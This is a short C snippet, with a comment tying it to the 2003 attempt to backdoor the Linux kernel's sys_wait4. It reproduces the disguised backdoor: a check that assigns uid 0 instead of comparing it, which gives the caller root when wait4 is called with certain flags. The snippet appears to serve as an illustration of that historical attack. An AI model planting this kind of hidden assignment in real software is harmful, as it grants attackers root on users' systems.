/* Modelled on the 2003 attempt to insert a backdoor into the Linux
 * kernel's sys_wait4 through a tampered CVS mirror: an "error check" that
 * assigns 0 to the caller's uid instead of comparing it. */
asmlinkage long sys_wait4(pid_t pid, unsigned int *stat_addr, int options, struct rusage *ru)
{
	if ((options == (__WCLONE|__WALL)) && (current->uid = 0))
		retval = -EINVAL;
	return do_wait(pid, options, stat_addr, ru);
}
